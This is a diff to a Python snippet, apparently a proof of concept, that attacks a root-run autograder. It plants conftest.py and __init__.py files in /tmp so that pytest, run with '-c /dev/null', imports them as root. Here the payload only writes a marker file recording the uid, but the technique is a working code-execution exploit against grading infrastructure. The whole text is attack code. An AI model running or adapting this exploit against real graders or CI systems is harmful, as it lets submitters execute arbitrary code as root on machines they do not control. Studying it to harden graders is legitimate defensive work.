@@ -1,17 +1,18 @@
 import os
-# Hostile first cell: plant /tmp/conftest.py while the grader (root) starts pytest. pytest runs
-# with `-c /dev/null`, so its confcutdir is /dev and it imports conftest.py from every folder
-# above the test files but / : with the course under /tmp (a local Gradescope root), that is
-# /tmp/conftest.py, imported as root by the grader.
+# Hostile first cell: plant /tmp/conftest.py and /tmp/__init__.py while the grader (root) starts
+# pytest. pytest ran with `-c /dev/null`, so its confcutdir was /dev: it imported conftest.py from
+# every folder above the test files but /, and collected each such folder holding an __init__.py
+# as a package, importing it. With the course under /tmp (a local Gradescope root) both ran as
+# root in the grader.
 payload = '''
 import os
 with open("/tmp/nl-pwned.txt", "a") as f:
-    f.write("conftest.py ran in the grader as uid %d\\n" % os.getuid())
+    f.write("%s ran in the grader as uid %d\\n" % (__file__, os.getuid()))
 '''
-for _ in range(3):
+for name in ("conftest.py", "__init__.py"):
     try:
-        with open("/tmp/conftest.py", "w") as f:
+        with open("/tmp/" + name, "w") as f:
             f.write(payload)
-        os.chmod("/tmp/conftest.py", 0o644)
+        os.chmod("/tmp/" + name, 0o644)
     except OSError as e:
         print("plant failed", e)
